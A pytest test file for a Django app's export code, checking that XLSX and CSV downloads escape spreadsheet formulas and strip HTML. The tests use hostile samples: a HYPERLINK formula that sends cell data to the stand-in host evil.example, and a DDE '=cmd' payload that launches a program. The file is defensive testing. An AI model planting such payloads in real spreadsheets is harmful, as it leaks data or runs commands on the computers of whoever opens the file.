"""Exports are data, never code: no live formula and no HTML in a downloaded spreadsheet."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from sinergi.core.utils.exports import table_response
from sinergi.programs.models import Program, Theme

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("https://evil.example/?d="&A2,"klik")'


def xlsx_rows(content: bytes):
    return [list(row) for row in load_workbook(io.BytesIO(content)).active.iter_rows()]


def test_program_named_as_a_formula_exports_as_text(operator_client):
    response = operator_client.post(
        reverse("programs:program_add"),
        {"name": HOSTILE, "fiscal_year": 2024, "status": "planned",
         "themes": [Theme.objects.get(code="pkk-kesehatan").pk], "focus_regions": "52.03"},
    )  # fmt: skip
    assert response.status_code == 302 and Program.objects.filter(name=HOSTILE).exists()
    url = reverse("programs:program_list")
    rows = xlsx_rows(operator_client.get(url, {"export": "xlsx", "q": "HYPERLINK"}).content)
    name, status = rows[1][0], rows[1][4]
    assert name.data_type == "s" and name.value == "'" + HOSTILE
    assert status.value == "Direncanakan"  # the badge's text, not its HTML
    text = operator_client.get(url, {"export": "csv", "q": "HYPERLINK"}).content.decode("utf-8-sig")
    line = list(csv.reader(io.StringIO(text)))[1]
    assert line[0] == "'" + HOSTILE and "<" not in text


def test_every_formula_start_is_escaped_and_numbers_stay_numbers():
    cells = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "a=1", -5, -2.5, 0]
    response = table_response("t", ["=header"], [cells], "xlsx")
    header, row = xlsx_rows(response.content)
    assert header[0].value == "'=header"
    values = [c.value for c in row]
    assert values[5].startswith("'")  # XML keeps a carriage return as a line feed
    assert values[:5] + values[6:] == ["'=1+1", "'+1+1", "'-1+1", "'@SUM(A1)", "'\t=1", "a=1", -5,
                                       -2.5, 0]  # fmt: skip
    assert all(c.data_type != "f" for c in row)
    text = table_response("t", ["h"], [cells], "csv").content.decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text)))[1][:4] == ["'=1+1", "'+1+1", "'-1+1", "'@SUM(A1)"]
    assert list(csv.reader(io.StringIO(text)))[1][7:] == ["-5", "-2.5", "0"]


def test_records_template_and_a_marked_csv_copy_hold_no_formula(client, persona, tmp_path):
    from sinergi.indicators.imports import import_values
    from sinergi.indicators.spreadsheets import marked_copy

    Program.objects.create(name=HOSTILE, fiscal_year=2024)
    client.force_login(persona("admin"))
    template = client.get(reverse("indicators:import_records_template", args=["programs"]))
    cells = [cell for row in xlsx_rows(template.content) for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert "'" + HOSTILE in [cell.value for cell in cells]
    upload = tmp_path / "values.csv"
    upload.write_text("region,indicator,period,value\n52.71.01.1004,=cmd|'/c calc'!A1,2023,=1+1\n")
    marked = marked_copy(upload, import_values(upload).problems)
    cells = [cell for row in xlsx_rows(marked) for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert "=1+1" in [cell.value for cell in cells]  # as typed, to fix and upload again
